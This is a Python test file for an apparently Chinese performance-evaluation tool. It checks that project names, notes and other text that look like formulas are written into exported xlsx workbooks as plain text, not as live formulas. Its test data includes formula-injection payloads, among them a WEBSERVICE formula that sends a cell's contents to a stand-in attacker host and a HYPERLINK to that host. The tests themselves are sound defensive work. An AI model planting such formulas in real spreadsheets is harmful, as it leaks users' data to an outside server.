"""Text that looks like a formula is written as text into every exported workbook.

openpyxl stores a string starting with ``=`` as a live formula; a spreadsheet would then run
``=WEBSERVICE(…)`` or ``=HYPERLINK(…)`` planted in a project name or a monitoring note. The
tests open the xlsx XML itself: no ``<f>`` element anywhere, and the text comes back intact.
"""

from __future__ import annotations

import dataclasses
import io
import re
import zipfile
from decimal import Decimal

from export_fixtures import monitorings, sample_document, selfevals
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from jixiao.domain.document import Document
from jixiao.domain.project import Amounts, Project
from jixiao.export import monitoring_sheets, render, review_sheets, selfeval_sheets, target_sheets
from jixiao.review import review_document
from jixiao.scoring.weights import load_scoring_profile

HOSTILE = [
    '=WEBSERVICE("http://evil.example/?"&B3)',
    '=HYPERLINK("http://evil.example","点击")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "=1+1",
]


def sheet_xml(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]


def assert_no_formula(data: bytes) -> None:
    for xml in sheet_xml(data):
        assert re.search(r"<(\w+:)?f[ >/]", xml) is None, "a cell was written as a formula"


def all_text(data: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(data))
    cells = (c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row)
    return {v for v in cells if isinstance(v, str)}


def hostile_document() -> Document:
    doc = sample_document()
    projects = [
        dataclasses.replace(p, name=HOSTILE[i % len(HOSTILE)], goal=HOSTILE[(i + 1) % len(HOSTILE)])
        for i, p in enumerate(doc.projects[: len(HOSTILE)])
    ]
    return dataclasses.replace(doc, projects=projects, department=HOSTILE[0])


def test_target_tables_keep_formula_like_text_as_text() -> None:
    doc = hostile_document()
    for sheets in (target_sheets(doc), target_sheets(doc, doc.projects[1].name)):
        data = render(sheets, "xlsx")
        assert_no_formula(data)
        texts = all_text(data)
        assert doc.projects[1].name in texts
    department_table = render(target_sheets(doc), "xlsx")
    assert set(HOSTILE) <= all_text(department_table)


def test_monitoring_notes_are_text() -> None:
    records = monitorings()
    first = records[0]
    rows = [
        dataclasses.replace(ind, cause_note=HOSTILE[i % 6], measures=HOSTILE[(i + 1) % 6])
        for i, ind in enumerate(first.indicators)
    ]
    records[0] = dataclasses.replace(
        first, indicators=rows, budget_deviation="=WEBSERVICE(A1)", goal_progress="@SUM(A1)"
    )
    data = render(monitoring_sheets(records, load_scoring_profile()), "xlsx")
    assert_no_formula(data)
    joined = "\n".join(all_text(data))
    for text in ("=WEBSERVICE(A1)", "@SUM(A1)", HOSTILE[0], HOSTILE[1]):
        assert text in joined


def test_selfeval_and_review_report_are_text() -> None:
    evals = [dataclasses.replace(e, project='=HYPERLINK("x")') for e in selfevals()]
    data = render(selfeval_sheets(evals, load_scoring_profile()), "xlsx")
    assert_no_formula(data)
    assert any('=HYPERLINK("x")' in t for t in all_text(data))
    doc = hostile_document()
    report = render(review_sheets(doc, review_document(doc)), "xlsx")
    assert_no_formula(report)
    assert any(HOSTILE[0] in t for t in all_text(report))


def test_amounts_stay_numbers() -> None:
    project = Project(name="=1+1", amounts=Amounts(Decimal("12.50"), Decimal("12.50"), None, None))
    ws = load_workbook(
        io.BytesIO(render(target_sheets(Document(projects=[project])), "xlsx"))
    ).active
    assert ws is not None
    assert ws.cell(5, 1).value == "=1+1"
    assert ws.cell(5, 1).data_type == "s"
    assert ws.cell(5, 2).value == 12.5
    assert ws.cell(5, 2).data_type == "n"


formula_like = st.tuples(st.sampled_from("=+-@\t\r"), st.text(max_size=30)).map("".join)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(names=st.lists(formula_like | st.text(min_size=1, max_size=30), min_size=1, max_size=5))
def test_any_text_is_written_as_text(names: list[str]) -> None:
    names = [n for n in names if n.strip()] or ["=A1"]
    doc = Document(projects=[Project(name=n, goal=n) for n in names])
    data = render(target_sheets(doc), "xlsx")
    assert_no_formula(data)
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    got = [ws.cell(row, 1).value for row in range(5, 5 + len(names))]
    want = [
        ILLEGAL_CHARACTERS_RE.sub("", n.replace("\r\n", "\n").replace("\r", "\n")) or None
        for n in names
    ]
    assert got == want


def test_control_characters_in_a_project_name_do_not_break_the_sheet_name() -> None:
    project = Project(name="\x0b项目\x01")
    data = render(target_sheets(Document(projects=[project]), project.name), "xlsx")
    assert load_workbook(io.BytesIO(data)).sheetnames == ["项目"]
